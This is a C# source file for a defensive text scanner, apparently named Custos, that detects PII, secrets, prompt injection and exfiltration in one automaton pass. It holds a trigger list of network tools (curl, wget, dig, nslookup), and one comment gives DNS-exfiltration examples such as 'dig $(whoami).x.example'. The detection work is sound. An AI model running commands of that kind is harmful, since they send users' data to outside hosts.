using Custos.Detection.Exfiltration;
using Custos.Detection.Injection;
using Custos.Detection.Pii;
using Custos.Detection.Scanning;
using Custos.Detection.Secrets;

namespace Custos.Detection;

/// <summary>
/// Finds PII, secrets, prompt injection and exfiltration in a text in one pass. The pass walks the text once: every character advances one
/// automaton holding all secret prefixes, secret-looking names and context words (and one more for known values),
/// and cheap triggers ('@', digits, ':', capital letters) hand bounded candidate spans to local validators
/// (Luhn, mod-97, SSA rules, libphonenumber, checksums). No regular expression runs over the input, and the work
/// is linear in its length. The same pass feeds each character to the injection pass (<see cref="InjectionPass"/>),
/// which folds it (NFKC, look-alikes, invisible characters, tag characters) and steps a second automaton over the
/// folded stream; URLs and HTTP client commands met by the first automaton are read once each, with bounded work.
/// A scanner is immutable and thread-safe: build it once per configuration.
/// </summary>
/// <remarks>
/// Overlaps are resolved so that reported findings never overlap: the longer finding wins, then the higher score,
/// then the type that ranks first (SECRET, CREDIT_CARD, IBAN_CODE, US_SSN, EMAIL_ADDRESS, IP_ADDRESS,
/// PHONE_NUMBER). PROMPT_INJECTION and EXFILTRATION findings mark regions (an instruction, a command): they are
/// merged among themselves and may contain value findings. Findings come sorted by start.
/// </remarks>
public sealed class Scanner
{
    /// <summary>The largest text one call accepts; callers split larger inputs.</summary>
    public const int MaxTextLength = 64 * 1024 * 1024;

    private const int InjectionBlock = 4096;

    // Words that lower a score ("order", "version") must stand right before the number they describe.
    private const int DampenWindow = 16;

    // The characters at which one of the main loop's readers may start ('@', ':', a digit, '+', '(', a capital): the
    // loop tests every other character against this alone (most of any text: small letters, spaces, punctuation).
    private static readonly bool[] ReaderStarts = [.. Enumerable.Range(0, 128).Select(c => c is '@' or ':' or '+' or '(' || char.IsAsciiDigit((char)c) || char.IsAsciiLetterUpper((char)c))];

    private readonly ScannerOptions _options;
    private readonly AhoCorasick _automaton;
    private readonly Pattern[] _patterns;
    private readonly bool _numbers;
    private readonly bool _emails;
    private readonly bool _ips;
    private readonly bool _ibans;
    private readonly bool _ninos;
    private readonly bool _vats;
    private readonly bool _crypto;
    private readonly bool _pans;
    private readonly bool _fiscalCodes;
    private readonly bool _nies;
    private readonly bool _nrics;
    private readonly bool _capitals;
    private readonly bool _secrets;
    private readonly bool _injection;
    private readonly bool _exfiltration;
    private readonly DomainAllowlist _allowlist;
    private readonly IPromptInjectionDetector _injectionDetector;

    // Short texts found clean, so the keys and enum-like values of every JSON request ("role", "content", "user",
    // a model name) are not scanned again and again. A scan is a pure function of the text and this scanner's
    // options, so a remembered clean text stays clean; the set is bounded and stops growing when full.
    private readonly System.Collections.Concurrent.ConcurrentDictionary<string, byte> _clean = new(StringComparer.Ordinal);

    public Scanner(ScannerOptions? options = null)
    {
        _options = options ?? new ScannerOptions();
        _options.Validate();
        var words = new List<string>();
        var patterns = new List<Pattern>();
        _secrets = _options.IsEnabled(EntityTypes.Secret);
        if (_secrets)
        {
            foreach (var rule in SecretRules.All)
            {
                words.Add(rule.Prefix);
                patterns.Add(new Pattern(rule, null, ContextKind.None));
            }

            foreach (var keyword in AssignmentKeywords.All)
            {
                words.Add(keyword.Word);
                patterns.Add(new Pattern(null, keyword, ContextKind.None));
            }
        }

        foreach (var (word, kind) in ContextWords.All)
        {
            words.Add(word);
            patterns.Add(new Pattern(null, null, kind));

            // The automaton folds ASCII case only: a word in another alphabet is also listed as it opens a line ("Телефон").
            if (word[0] > '\u007F' && char.ToUpperInvariant(word[0]) != word[0])
            {
                words.Add(char.ToUpperInvariant(word[0]) + word[1..]);
                patterns.Add(new Pattern(null, null, kind));
            }
        }

        _crypto = _options.IsEnabled(EntityTypes.Crypto);
        if (_crypto)
        {
            words.Add("bc1");
            patterns.Add(new Pattern(null, null, ContextKind.None, Trigger.Bech32));
        }

        _injection = _options.IsEnabled(EntityTypes.PromptInjection);
        _exfiltration = _options.IsEnabled(EntityTypes.Exfiltration);
        _allowlist = new DomainAllowlist(_options.AllowedDomains);
        _injectionDetector = _options.InjectionDetector ?? (_options.UseInjectionClassifier ? ClassifierInjectionDetector.Instance : HeuristicInjectionDetector.Instance);
        if (_exfiltration)
        {
            foreach (var url in (string[])["http://", "https://"])
            {
                words.Add(url);
                patterns.Add(new Pattern(null, null, ContextKind.None, Trigger.Url));
            }

            foreach (var command in (string[])["curl", "wget", "invoke-webrequest", "invoke-restmethod", "iwr", "irm", "dig", "nslookup"])
            {
                words.Add(command);
                patterns.Add(new Pattern(null, null, ContextKind.None, Trigger.Command));
            }

            foreach (var command in TransferCommand.Names)
            {
                words.Add(command);
                patterns.Add(new Pattern(null, null, ContextKind.None, Trigger.Transfer));
            }

            foreach (var (word, kind) in ExfiltrationVocabulary.All())
            {
                words.Add(word);
                patterns.Add(new Pattern(null, null, ContextKind.None, Trigger.Word, kind));
            }
        }

        _automaton = new AhoCorasick(words, ignoreCase: true);
        _patterns = [.. patterns];
        _numbers = _options.IsEnabled(EntityTypes.CreditCard) || _options.IsEnabled(EntityTypes.UsSsn) || _options.IsEnabled(EntityTypes.PhoneNumber) || _options.IsEnabled(EntityTypes.IpAddress);
        _emails = _options.IsEnabled(EntityTypes.EmailAddress);
        _ips = _options.IsEnabled(EntityTypes.IpAddress);
        _ibans = _options.IsEnabled(EntityTypes.IbanCode);
        _ninos = _options.IsEnabled(EntityTypes.UkNino);
        _vats = _options.IsEnabled(EntityTypes.DeVatId) || _options.IsEnabled(EntityTypes.ItVatCode) || _options.IsEnabled(EntityTypes.EuVatId);
        // Every type read from a run of digits (the number reader runs once for all of them).
        _numbers |= _crypto || _options.IsEnabled(EntityTypes.UkNhs) || _options.IsEnabled(EntityTypes.UsItin) || _options.IsEnabled(EntityTypes.AbaRoutingNumber)
            || _options.IsEnabled(EntityTypes.InAadhaar) || _options.IsEnabled(EntityTypes.EsNif) || _options.IsEnabled(EntityTypes.AuAbn) || _options.IsEnabled(EntityTypes.AuTfn)
            || _options.IsEnabled(EntityTypes.PlPesel) || _options.IsEnabled(EntityTypes.FiPersonalIdentityCode);
        _pans = _options.IsEnabled(EntityTypes.InPan);
        _fiscalCodes = _options.IsEnabled(EntityTypes.ItFiscalCode);
        _nies = _options.IsEnabled(EntityTypes.EsNie);
        _nrics = _options.IsEnabled(EntityTypes.SgNricFin);
        _capitals = _ibans || _ninos || _vats || _pans || _fiscalCodes;
    }

    public ScannerOptions Options => _options;

    /// <summary>
    /// The findings in <paramref name="text"/>, sorted by start. Value findings (PII, secrets) never overlap each
    /// other; PROMPT_INJECTION and EXFILTRATION regions never overlap their own type but may contain values.
    /// </summary>
    public IReadOnlyList<Finding> Scan(string text)
    {
        ArgumentNullException.ThrowIfNull(text);
        if (text.Length > MaxCleanLength)
        {
            return Run(text).Findings;
        }

        if (_clean.ContainsKey(text))
        {
            return [];
        }

        var findings = Run(text).Findings;
        if (findings.Count == 0 && _clean.Count < MaxCleanTexts)
        {
            _clean.TryAdd(text, 0);
        }

        return findings;
    }

    /// <summary>
    /// True when <paramref name="text"/> is empty or a short text this scanner already found clean, so that
    /// <see cref="Scan"/> would find nothing in it: a caller holding the text as characters (decoded from JSON on
    /// the stack) need not make a string of it to learn that. False says only that it is not known clean.
    /// </summary>
    public bool IsKnownClean(ReadOnlySpan<char> text) =>
        text.IsEmpty || (text.Length <= MaxCleanLength && _clean.GetAlternateLookup<ReadOnlySpan<char>>().ContainsKey(text));

    /// <summary>The longest text remembered as clean.</summary>
    internal const int MaxCleanLength = 64;

    /// <summary>How many clean short texts this scanner remembers.</summary>
    internal int CleanTexts => _clean.Count;

    /// <summary>How many clean short texts a scanner remembers at most (give or take the scans running at once).</summary>
    internal const int MaxCleanTexts = 8192;

    /// <summary>Scans and reports the work done, for tests that hold the scan to linear work.</summary>
    internal (IReadOnlyList<Finding> Findings, ScanWork Work) Run(string text)
    {
        ArgumentNullException.ThrowIfNull(text);
        if (text.Length > MaxTextLength)
        {
            throw new ArgumentException($"the text is {text.Length} characters; one scan takes at most {MaxTextLength}; split it", nameof(text));
        }

        var context = new ScanContext(text, _options);
        var injection = _injection || _exfiltration ? new InjectionPass(InjectionAutomaton.Instance, text, 0, context.Work) : null;
        Walk(context, injection);

        foreach (var custom in _options.CustomTypes)
        {
            Custom(context, custom);
        }

        if (injection is not null)
        {
            injection.Finish();
            Regions(context, injection);
        }

        return (Resolve(context), context.Work);
    }

    /// <summary>
    /// The main loop over the text: the automaton, the held secrets, the readers that start at one character, and the injection
    /// pass fed a block ahead. A method of its own so that the JIT keeps the loop's state in registers (inside <see cref="Run"/>,
    /// with everything around it inlined, the automaton's state went through the stack on every character).
    /// </summary>
    [System.Runtime.CompilerServices.MethodImpl(System.Runtime.CompilerServices.MethodImplOptions.NoInlining)]
    private void Walk(ScanContext context, InjectionPass? injection)
    {
        var text = context.Text;
        var known = _secrets ? _options.KnownSecrets : null;
        var knownAutomaton = known?.Automaton;
        var state = 0;
        var knownState = 0;
        var numbersUntil = 0;
        var ipv6Until = 0;
        var injectedTo = injection is null ? int.MaxValue : 0;

        // The loop steps the automaton inline and reads this scanner's switches from locals, which the JIT keeps in
        // registers across the calls the loop makes (a field is read again after every call).
        var automaton = _automaton;
        var table = automaton.Table;
        var classOf = automaton.ClassOf;
        var firstOutput = automaton.FirstOutput;
        var emails = _emails || _exfiltration;
        var ips = _ips;
        var numbers = _numbers;
        var crypto = _crypto;
        var capitals = _capitals;
        var oneCapital = _nies || _nrics;
        for (var i = 0; i < text.Length; i++)
        {
            if (knownAutomaton is null && i != injectedTo)
            {
                // Most characters only step the automaton: a loop of its own steps them, with its state in registers.
                i = Quiet(text, i, Math.Min(text.Length, injectedTo), ref state, table, classOf, firstOutput);
                if (i == text.Length)
                {
                    break;
                }
            }

            var c = text[i];
            if (i == injectedTo)
            {
                // The injection pass takes the text a block at a time, just ahead of the main loop: the block is
                // still in the cache when this loop reads it, and each loop keeps its state in registers.
                injectedTo = Math.Min(text.Length, i + InjectionBlock);
                injection!.FeedRange(i, injectedTo);
            }
            state = table[state + classOf[c]];
            if (state >= firstOutput)
            {
                foreach (var id in automaton.Outputs(state))
                {
                    OnPattern(context, id, i + 1);
                }
            }

            if (knownAutomaton is not null)
            {
                knownState = knownAutomaton.Step(knownState, c);
                if (knownAutomaton.HasOutputs(knownState))
                {
                    foreach (var id in knownAutomaton.Outputs(knownState))
                    {
                        var (name, encoding) = known!.Label(id);
                        context.Add(EntityTypes.Secret, i + 1 - knownAutomaton.Length(id), i + 1, 1.0, "known-values", "known", $"matches the held secret '{name}' ({encoding})");
                    }
                }
            }

            if (c >= 0x80 || !ReaderStarts[c])
            {
                // None of the readers below starts at this character.
            }
            else if (c == '@')
            {
                if (emails && EmailMatcher.TryMatch(text, i, out var start, out var end))
                {
                    context.Add(EntityTypes.EmailAddress, start, end, 0.95, "email", boost: ContextKind.Email);
                    context.Emails.Add((start, end));
                }
            }
            else if (c == ':')
            {
                if (ips && i >= ipv6Until)
                {
                    ipv6Until = Ipv6Matcher.Scan(context, i);
                }
            }
            else if (i >= numbersUntil && numbers && (char.IsAsciiDigit(c) || c is '+' or '('))
            {
                var prev = Chars.At(text, i - 1);
                if (char.IsLetterOrDigit(prev) || prev is '_' or '.' or '-' || (prev == '+' && char.IsAsciiDigit(c)))
                {
                    if (char.IsAsciiDigit(c))
                    {
                        numbersUntil = NumberMatcher.SkipWord(text, i);
                    }
                }
                else if (crypto && c is '1' or '3' && Bitcoin.MatchBase58(text, i) is > 0 and var addressEnd)
                {
                    context.Add(EntityTypes.Crypto, i, addressEnd, 0.9, "crypto", c == '1' ? "p2pkh" : "p2sh", boost: ContextKind.Crypto);
                    numbersUntil = addressEnd;
                }
                else if (NumberMatcher.StartsRun(text, i))
                {
                    numbersUntil = NumberMatcher.Scan(context, i);
                }
            }
            else if (capitals && char.IsAsciiLetterUpper(c) && char.IsAsciiLetterUpper(Chars.At(text, i + 1)) && !Chars.IsWordChar(Chars.At(text, i - 1)))
            {
                Capitals(context, i);
            }
            else if (oneCapital && c is 'X' or 'Y' or 'Z' or 'S' or 'T' or 'F' or 'G' && char.IsAsciiDigit(Chars.At(text, i + 1)) && !Chars.IsWordChar(Chars.At(text, i - 1)))
            {
                // One capital before digits: a Spanish NIE (X, Y, Z) or a Singapore NRIC or FIN (S, T, F, G).
                if (_nies && SpanishId.MatchNie(text, i) is > 0 and var nieEnd)
                {
                    context.Add(EntityTypes.EsNie, i, nieEnd, 0.6, "es-id", boost: ContextKind.SpanishId, dampen: ContextKind.Reference);
                }
                else if (_nrics && SgNric.Match(text, i) is > 0 and var nricEnd)
                {
                    context.Add(EntityTypes.SgNricFin, i, nricEnd, 0.6, "nric", boost: ContextKind.SgNric, dampen: ContextKind.Reference);
                }
            }
        }
    }

    /// <summary>
    /// Steps the automaton from <paramref name="i"/> over the characters that need nothing else (no pattern ends at them
    /// and no reader starts there), up to <paramref name="stop"/>; returns the first one that needs more, not stepped.
    /// </summary>
    private static int Quiet(string text, int i, int stop, ref int state, AutomatonTable table, AlphabetClasses classOf, int firstOutput)
    {
        var s = state;
        var readers = ReaderStarts;
        for (; i < stop; i++)
        {
            var c = text[i];
            var next = table[s + classOf[c]];
            if (next >= firstOutput || (c < 0x80 && readers[c]))
            {
                break;
            }

            s = next;
        }

        state = s;
        return i;
    }

    /// <summary>Two capitals at a word start: an IBAN, a National Insurance number or a VAT id may start here.</summary>
    private void Capitals(ScanContext context, int i)
    {
        var text = context.Text;
        var digitNext = char.IsAsciiDigit(Chars.At(text, i + 2));
        if (_ibans && digitNext && char.IsAsciiDigit(Chars.At(text, i + 3)) && Iban.TryMatch(text, i, out var ibanEnd))
        {
            context.Add(EntityTypes.IbanCode, i, ibanEnd, 0.95, "iban", boost: ContextKind.Iban);
        }

        if (_ninos && (digitNext || Chars.At(text, i + 2) == ' ') && UkNino.Match(text, i) is > 0 and var ninoEnd)
        {
            context.Add(EntityTypes.UkNino, i, ninoEnd, ninoEnd - i == 9 ? 0.75 : 0.85, "nino", boost: ContextKind.Nino);
        }

        if (_vats && VatId.IsCountry(text[i], text[i + 1]) && VatId.TryMatch(text, i, out var vatEnd, out var vatType, out var country))
        {
            context.Add(vatType, i, vatEnd, 0.9, "vat", vatType == EntityTypes.EuVatId ? country : null);
        }

        if (_pans && !digitNext && InPan.Match(text, i) is > 0 and var panEnd)
        {
            // No check character: a PAN is reported only next to "PAN" (or "PAN card"), "permanent account number", "income tax".
            context.Add(EntityTypes.InPan, i, panEnd, 0.3, "pan", boost: ContextKind.Pan | ContextKind.Card, dampen: ContextKind.Reference);
        }

        if (_fiscalCodes && !digitNext && ItFiscalCode.Match(text, i) is > 0 and var fiscalEnd)
        {
            context.Add(EntityTypes.ItFiscalCode, i, fiscalEnd, 0.7, "fiscal-code", boost: ContextKind.FiscalCode, dampen: ContextKind.Reference);
        }
    }

    /// <summary>The matches of a user's type: linear-time regex (NonBacktracking), bounded length, validator, context words.</summary>
    private void Custom(ScanContext context, CustomEntityType custom)
    {
        var text = context.Text;
        foreach (var match in custom.Regex.EnumerateMatches(text))
        {
            if (match.Length is 0 or > CustomEntityType.MaxMatchLength || !custom.Validates(text.AsSpan(match.Index, match.Length)))
            {
                continue;
            }

            var end = match.Index + match.Length;
            var score = custom.HasContext(text, match.Index, end, _options.ContextWindow) ? Math.Min(1.0, custom.Score + 0.35) : custom.Score;
            context.Add(custom.Name, match.Index, end, score, "custom");
        }
    }

    private void Regions(ScanContext context, InjectionPass pass)
    {
        var text = context.Text;
        if (_injection)
        {
            var signals = WithHiddenTrait(pass.Signals, pass.Hidden);
            foreach (var f in _injectionDetector.Detect(text, signals, _options.PromptInjectionThreshold))
            {
                // A pluggable detector is trusted with scoring, not with offsets.
                if (f.Type == EntityTypes.PromptInjection && f.Start >= 0 && f.End <= text.Length && f.Start < f.End && f.Score >= _options.PromptInjectionThreshold
                    && !char.IsLowSurrogate(Chars.At(text, f.Start)) && !char.IsLowSurrogate(Chars.At(text, f.End)))
                {
                    context.Regions.Add(f);
                }
            }
        }

        if (_exfiltration)
        {
            var places = new List<(int Start, int End)>();
            var placements = new List<(int Start, int End)>();
            var fields = new List<(int Start, int End)>();
            List<(int Start, int End)>? redirects = null; // made only when a text names such a setting
            List<(int Start, int End)>? grants = null;
            var skipped = new List<(int Start, int End)>();
            foreach (var (start, end, kind) in context.ExfiltrationWords)
            {
                (kind switch
                {
                    ExfiltrationVocabulary.Kind.Field => fields,
                    ExfiltrationVocabulary.Kind.Redirect => redirects ??= [],
                    ExfiltrationVocabulary.Kind.Grant => grants ??= [],
                    ExfiltrationVocabulary.Kind.HomePath => PersonalFolders.Contains(text.AsSpan(start, Math.Min(80, text.Length - start))) ? pass.Sensitive : skipped, // "~/Dokumen/Keuangan"
                    ExfiltrationVocabulary.Kind.Sensitive => pass.Sensitive,
                    ExfiltrationVocabulary.Kind.Stealth => pass.Stealth,
                    ExfiltrationVocabulary.Kind.PublicPlace => places,
                    ExfiltrationVocabulary.Kind.Send => pass.SendVerbs,
                    _ => placements,
                }).Add((start, end));
            }

            pass.Stealth.Sort();
            ExfiltrationFinder.FromTransfers(context, pass.Stealth, _options.ExfiltrationThreshold);
            DiscussedTemplates.LowerQuotedCommands(context, pass.Signals, _options.ExfiltrationThreshold);
            ExfiltrationFinder.FromUrls(context, _allowlist, _options.ExfiltrationThreshold);
            ExfiltrationFinder.FromInstructions(context, new SendWords(pass.SendVerbs, placements, places), pass.Sensitive, pass.Owned, pass.Stealth, pass.Addressed, _allowlist, _options.ExfiltrationThreshold);
            ExfiltrationFinder.FromTemplates(context, pass.Sensitive, _allowlist, _options.ExfiltrationThreshold);
            SecretFields.Find(context, fields, _options.ExfiltrationThreshold);
            TrafficRedirect.Find(context, redirects, pass.Stealth, _allowlist, _options.ExfiltrationThreshold);
            DefinedPlaceholders.Find(context, pass.Sensitive, pass.Owned, _allowlist, _options.ExfiltrationThreshold);
            PublicGrants.Find(context, grants, pass.Sensitive, pass.Addressed, pass.Stealth, _options.ExfiltrationThreshold);
            DiscussedTemplates.LowerTemplates(context, pass.Signals, _options.ExfiltrationThreshold);
            WithoutClassifierOverExfiltration(context.Regions);
        }
    }

    /// <summary>The classifier learned injection and exfiltration as one class: where the exfiltration finder has spoken, it need not.</summary>
    private static void WithoutClassifierOverExfiltration(List<Finding> regions)
    {
        for (var k = regions.Count - 1; k >= 0; k--)
        {
            var f = regions[k];
            if (f.Detector != "classifier")
            {
                continue;
            }

            foreach (var e in regions)
            {
                if (e.Type == EntityTypes.Exfiltration && e.Start < f.End && f.Start < e.End)
                {
                    regions.RemoveAt(k);
                    break;
                }
            }
        }
    }

    private static List<InjectionSignal> WithHiddenTrait(List<InjectionSignal> signals, List<(int Start, int End)> hidden)
    {
        signals.Sort(static (a, b) => a.Start != b.Start ? a.Start.CompareTo(b.Start) : a.End.CompareTo(b.End));
        if (hidden.Count == 0)
        {
            return signals;
        }

        // The hidden regions as a disjoint union, then one walk along the sorted signals.
        hidden.Sort();
        var merged = new List<(int Start, int End)>();
        foreach (var h in hidden)
        {
            if (merged.Count > 0 && h.Start <= merged[^1].End)
            {
                merged[^1] = (merged[^1].Start, Math.Max(merged[^1].End, h.End));
            }
            else
            {
                merged.Add(h);
            }
        }

        var k = 0;
        for (var n = 0; n < signals.Count; n++)
        {
            var s = signals[n];
            while (k < merged.Count && merged[k].End < s.End)
            {
                k++;
            }

            if (k < merged.Count && merged[k].Start <= s.Start && s.End <= merged[k].End)
            {
                signals[n] = s with { Traits = s.Traits | SignalTraits.Hidden };
            }
        }

        return signals;
    }

    [System.Runtime.CompilerServices.MethodImpl(System.Runtime.CompilerServices.MethodImplOptions.NoInlining)] // off the main loop (Walk), which it filled with spills
    private void OnPattern(ScanContext context, int id, int end)
    {
        var pattern = _patterns[id];
        var start = end - _automaton.Length(id);
        if (pattern.Trigger == Trigger.Bech32)
        {
            if (!Chars.IsWordChar(Chars.At(context.Text, start - 1)) && Bitcoin.MatchBech32(context.Text, start) is > 0 and var addressEnd)
            {
                context.Add(EntityTypes.Crypto, start, addressEnd, 0.9, "crypto", "bech32", boost: ContextKind.Crypto);
            }
        }
        else if (pattern.Context == ContextKind.Birth)
        {
            BirthDate.OnKeyword(context, start, end);
        }
        else if (pattern.Trigger == Trigger.Word)
        {
            OnWord(context, pattern.Word, start, end);
        }
        else if (pattern.Trigger == Trigger.Transfer)
        {
            OnTransfer(context, start, end);
        }
        else if (pattern.Trigger != Trigger.None)
        {
            OnTrigger(context, pattern.Trigger, start, end);
        }
        else if (pattern.Rule is { } rule)
        {
            // Provider prefixes are case-sensitive; the automaton folds case for names and context words.
            if (context.Text.AsSpan(start, rule.Prefix.Length).SequenceEqual(rule.Prefix))
            {
                SecretMatcher.Match(context, rule, start);
            }
        }
        else if (pattern.Keyword is { } keyword)
        {
            AssignmentMatcher.Match(context, keyword, start);
        }
        else
        {
            var text = context.Text;
            var length = end - start;
            // Scripts written without spaces (Chinese, Japanese, Korean) have no word edges to check.
            if (text[start] >= '\u2E80' || (!char.IsLetter(Chars.At(text, start - 1)) && (length >= 5 || !char.IsLetter(Chars.At(text, end)))))
            {
                context.ContextHits.Add((start, end, pattern.Context));
            }
        }
    }

    private void OnTrigger(ScanContext context, Trigger trigger, int start, int end)
    {
        var text = context.Text;
        if (start < context.TriggerUntil)
        {
            return; // inside the URL or command read last: read once
        }

        if (trigger == Trigger.Url)
        {
            var hit = UrlInspector.Read(text, start, context.TriggerUntil, context.Work);
            context.TriggerUntil = hit.End;
            context.UrlUntil = hit.End;
            context.Urls.Add(hit);
            return;
        }

        var before = Chars.At(text, start - 1);
        if (Chars.IsWordChar(before) || before is '-' or '.' or '/' || !(Chars.At(text, end) is ' ' or '\t'))
        {
            return;
        }

        var commandEnd = CommandInspector.End(text, start, context.Work);
        context.TriggerUntil = commandEnd;
        string? url = null;
        List<(string Reason, double Weight)> reasons;
        if (end - start is 3 or 8 && (text[start] is 'd' or 'D' or 'n' or 'N'))
        {
            // A DNS lookup carries data out only in a name built from data ("dig $(whoami).x.example", "… | xargs -I{} nslookup {}.x.example").
            reasons = [];
            TransferCommand.Dns(text, start, text.AsSpan(start, commandEnd - start), context.Work, reasons);
        }
        else
        {
            reasons = CommandInspector.Inspect(text, start, commandEnd, context.Work, out url);
        }

        if (reasons.Count == 0 || (url is not null && _allowlist.Allows(UrlInspector.Host(url))))
        {
            return;
        }

        var miss = 1.0;
        foreach (var (_, weight) in reasons)
        {
            miss *= 1 - weight;
        }

        var score = Math.Round(1 - miss, 2);
        if (score < 0.85 && OwnDestination.Named(text, start, commandEnd))
        {
            return; // "… https://nas.casa-rossi.example/upload, è il mio NAS di casa": the user's own copy of their files
        }

        if (score >= _options.ExfiltrationThreshold)
        {
            while (commandEnd > start && char.IsWhiteSpace(text[commandEnd - 1]))
            {
                commandEnd--;
            }

            var explanation = "command carries data out: " + string.Join(", ", reasons.OrderByDescending(r => r.Weight).Select(r => r.Reason).Distinct(StringComparer.Ordinal));
            context.Regions.Add(new Finding(EntityTypes.Exfiltration, start, commandEnd, score, "exfiltration", "http-command", explanation));
        }
    }

    /// <summary>A word of the exfiltration vocabulary, outside URLs and at word edges (CJK words have none).</summary>
    private static void OnWord(ScanContext context, ExfiltrationVocabulary.Kind kind, int start, int end)
    {
        var text = context.Text;
        if (start < context.UrlUntil && context.Urls.Count > 0 && context.Urls[^1].Start <= start)
        {
            return; // "…/pastebin/…", "?q=passport": part of an address
        }

        if ((char.IsAsciiLetter(text[start]) && char.IsAsciiLetter(Chars.At(text, start - 1))) || (char.IsAsciiLetter(text[end - 1]) && char.IsAsciiLetter(Chars.At(text, end))))
        {
            return; // inside a longer word ("input", "address" in "addresses" is its own entry)
        }

        if (kind is ExfiltrationVocabulary.Kind.Send or ExfiltrationVocabulary.Kind.Placement && Chars.At(text, start - 1) is '-' or '_' or '.' or '/' or '@')
        {
            return; // "E-Mail", "send_mail", "kv.put": part of a name
        }

        if (kind == ExfiltrationVocabulary.Kind.Field && IsKeyOrMember(text, start, end))
        {
            return; // "\"status\": …", status_code, .title: a key or a member, not a field someone is told to set (JSON has thousands)
        }

        if (kind == ExfiltrationVocabulary.Kind.Sensitive && ExfiltrationVocabulary.ReadersOwn(text, start))
        {
            return; // "send a copy of your passport to hr@…": the reader's own document, theirs to send
        }

        if (kind == ExfiltrationVocabulary.Kind.Placement && ExfiltrationVocabulary.InCodeSpan(text, start))
        {
            return; // "`vault kv put secret/x key=@new.key`": a command's word, not an order
        }

        if (kind == ExfiltrationVocabulary.Kind.Public)
        {
            // "a public GitHub gist", "the public #general channel": a public place named with a word or two between.
            var placeEnd = ExfiltrationVocabulary.PublicPlaceEnd(text, end);
            if (placeEnd > 0)
            {
                context.ExfiltrationWords.Add((start, placeEnd, ExfiltrationVocabulary.Kind.PublicPlace));
            }

            return;
        }

        if (kind == ExfiltrationVocabulary.Kind.PublicWord)
        {
            // "el foro público", "das öffentliche Miro-Board", "公开的 GitHub issue": a public place with its noun beside the word.
            var (placeStart, placeEnd) = OutwardChannels.PublicPlace(text, start, end);
            if (placeEnd > 0)
            {
                context.ExfiltrationWords.Add((placeStart, placeEnd, ExfiltrationVocabulary.Kind.PublicPlace));
            }

            return;
        }

        context.ExfiltrationWords.Add((start, end, kind));
    }

    /// <summary>
    /// Whether the word at [<paramref name="start"/>, <paramref name="end"/>) is a key (<c>"status":</c>, <c>'title' :</c>)
    /// or part of a name (<c>status_code</c>, <c>.title</c>), not a field named in prose: a quoted field in a sentence
    /// ("set your \"status\" to …") is still a field.
    /// </summary>
    private static bool IsKeyOrMember(string text, int start, int end)
    {
        if (Chars.At(text, start - 1) is '_' or '.' || Chars.At(text, end) == '_')
        {
            return true;
        }

        var quote = Chars.At(text, start - 1);
        if (quote is not ('"' or '\'') || Chars.At(text, end) != quote)
        {
            return false;
        }

        var after = end + 1;
        while (after < text.Length && after < end + 8 && text[after] is ' ' or '\t')
        {
            after++;
        }

        return Chars.At(text, after) == ':';
    }

    /// <summary>A transfer command's name (nc, scp, aws …): checked from its head, read to the end of its line once.</summary>
    private void OnTransfer(ScanContext context, int start, int end)
    {
        var text = context.Text;
        if (start < context.TransferUntil || start < context.TriggerUntil)
        {
            return; // inside the transfer command, URL or HTTP command read last
        }

        if (text[start] != '/')
        {
            var before = Chars.At(text, start - 1);
            if (Chars.IsWordChar(before) || before is '-' or '.' or '/' or '$' || !(Chars.At(text, end) is ' ' or '\t'))
            {
                return;
            }
        }

        var tool = TransferCommand.Head(text, start, end);
        if (tool == TransferCommand.Tool.None)
        {
            return;
        }

        var commandEnd = CommandInspector.End(text, start, context.Work);
        context.TransferUntil = commandEnd;
        var reasons = TransferCommand.Inspect(text, start, end, commandEnd, tool, context.Work, out var host);
        if (reasons.Count > 0 && (host is null || !_allowlist.Allows(host)))
        {
            while (commandEnd > start && char.IsWhiteSpace(text[commandEnd - 1]))
            {
                commandEnd--;
            }

            context.Transfers.Add((start, commandEnd, reasons));
        }
    }

    private List<Finding> Resolve(ScanContext context)
    {
        var candidates = context.Candidates;
        var hits = context.ContextHits;
        var window = _options.ContextWindow;
        for (var k = 0; k < candidates.Count; k++)
        {
            var candidate = candidates[k];
            if (candidate.Boost != ContextKind.None || candidate.Dampen != ContextKind.None)
            {
                var near = NearbyContext(hits, candidate.Start - window, candidate.End + (window / 2), candidate.Start, candidate.End);
                if ((near & candidate.Boost) == 0 && candidate.Type != EntityTypes.PhoneNumber && CsvColumns.HeaderCell(context, candidate.Start, candidate.End) is var (cellStart, cellEnd) && cellStart >= 0)
                {
                    // In a table the column's header speaks for the value however far down the row is.
                    near |= NearbyContext(hits, cellStart, cellEnd, candidate.Start, candidate.End);
                }

                if ((near & candidate.Boost) != 0)
                {
                    candidate.Score = Math.Min(1.0, candidate.Score + 0.35);
                }
                else if ((NearbyContext(hits, candidate.Start - DampenWindow, candidate.Start, candidate.Start, candidate.End) & candidate.Dampen) != 0)
                {
                    candidate.Score = Math.Max(0, candidate.Score - 0.5);
                }

                candidates[k] = candidate;
            }
        }

        candidates.RemoveAll(c => c.Score < _options.MinimumScore);
        candidates.Sort(static (a, b) =>
        {
            // A value Custos holds is always reported as such, even inside a longer finding (an assignment, a URL).
            var byKnown = (b.Detector == "known-values").CompareTo(a.Detector == "known-values");
            if (byKnown != 0)
            {
                return byKnown;
            }

            var byLength = b.Length.CompareTo(a.Length);
            if (byLength != 0)
            {
                return byLength;
            }

            var byScore = b.Score.CompareTo(a.Score);
            return byScore != 0 ? byScore : EntityTypes.Rank(a.Type).CompareTo(EntityTypes.Rank(b.Type));
        });

        var taken = new List<Finding>();
        var occupied = new SortedList<int, int>(); // start -> end of accepted findings
        foreach (var c in candidates)
        {
            if (Overlaps(occupied, c.Start, c.End))
            {
                continue;
            }

            occupied.Add(c.Start, c.End);
            taken.Add(new Finding(c.Type, c.Start, c.End, Math.Round(c.Score, 2), c.Detector, c.Subtype, c.Explanation));
        }

        taken.AddRange(MergeRegions(context.Regions));
        taken.Sort(static (a, b) => a.Start != b.Start ? a.Start.CompareTo(b.Start) : b.End.CompareTo(a.End));
        return taken;
    }

    /// <summary>Overlapping regions of one type become one: the union of their spans, told by the higher scoring.</summary>
    private static List<Finding> MergeRegions(List<Finding> regions)
    {
        regions.Sort(static (a, b) => a.Type != b.Type ? string.CompareOrdinal(a.Type, b.Type) : a.Start.CompareTo(b.Start));
        var merged = new List<Finding>(regions.Count);
        foreach (var r in regions)
        {
            if (merged.Count > 0 && merged[^1] is var last && last.Type == r.Type && r.Start < last.End)
            {
                var lead = r.Score > last.Score ? r : last;
                merged[^1] = lead with { Start = last.Start, End = Math.Max(last.End, r.End) };
            }
            else
            {
                merged.Add(r);
            }
        }

        return merged;
    }

